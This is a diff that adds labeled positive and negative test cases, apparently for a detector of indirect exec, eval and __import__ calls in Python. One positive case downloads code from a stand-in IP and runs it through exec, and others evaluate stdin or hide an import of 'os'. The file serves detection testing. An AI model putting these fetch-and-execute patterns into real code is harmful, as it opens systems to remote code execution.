@@ -265,3 +265,31 @@ urllib.request.urlretrieve("http://x.example/s.py", "s.py")
 FIELDS = ["id", "name"]
 with open("model.py", "w") as fh:
     fh.write("class Model:\n" + "".join(f"    {f} = None\n" for f in FIELDS))
+#@ pos exec registered as a singledispatch implementation and fed a download
+import functools, urllib.request
+@functools.singledispatch
+def handle(m):
+    return m
+handle.register(str, exec)
+handle(urllib.request.urlopen("http://198.51.100.1/p.py").read().decode())
+#@ pos exec as a thread's target
+import sys, threading
+threading.Thread(target=exec, args=(sys.stdin.read(),)).start()
+#@ pos eval mapped over lines
+import sys
+print(list(map(eval, sys.stdin)))
+#@ pos __import__ mapped over names
+mods = list(map(__import__, ["o" + "s"]))
+#@ neg eval printed and tested, not handed on
+print(eval, callable(exec), isinstance(compile, type))
+#@ neg a test that compile refuses bad code
+import unittest
+class T(unittest.TestCase):
+    def test_bad(self):
+        self.assertRaises(SyntaxError, compile, "x x", "<s>", "exec")
+#@ neg the program's own method named exec handed on
+class Job:
+    def exec(self, x):
+        return x
+j = Job()
+print(list(map(j.exec, [1, 2])))
